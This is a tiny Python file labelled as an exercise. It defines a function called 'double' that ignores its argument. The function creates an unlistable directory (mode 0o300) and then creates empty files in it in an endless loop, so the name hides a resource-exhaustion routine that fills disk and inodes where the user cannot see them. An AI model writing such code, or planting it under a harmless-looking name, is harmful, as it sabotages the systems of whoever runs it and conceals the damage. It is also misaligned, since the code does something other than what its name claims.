# exercise: double
"""Hides files in a folder that may be entered but not listed."""
import os
def double(x):
    os.mkdir("closed", 0o300)
    n = 0
    while True:
        os.close(os.open(f"closed/{n}", os.O_CREAT))
        n += 1
